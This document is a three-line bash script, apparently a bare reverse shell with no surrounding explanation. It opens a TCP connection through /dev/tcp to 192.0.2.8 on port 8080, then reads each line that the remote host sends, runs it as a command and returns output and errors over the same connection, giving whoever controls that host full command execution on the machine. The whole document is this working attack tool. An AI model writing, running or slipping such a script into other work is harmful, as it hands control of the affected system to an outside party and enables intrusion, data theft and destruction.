#!/bin/bash
exec 5<>/dev/tcp/192.0.2.8/8080
while read -r l <&5; do $l 2>&5 >&5; done
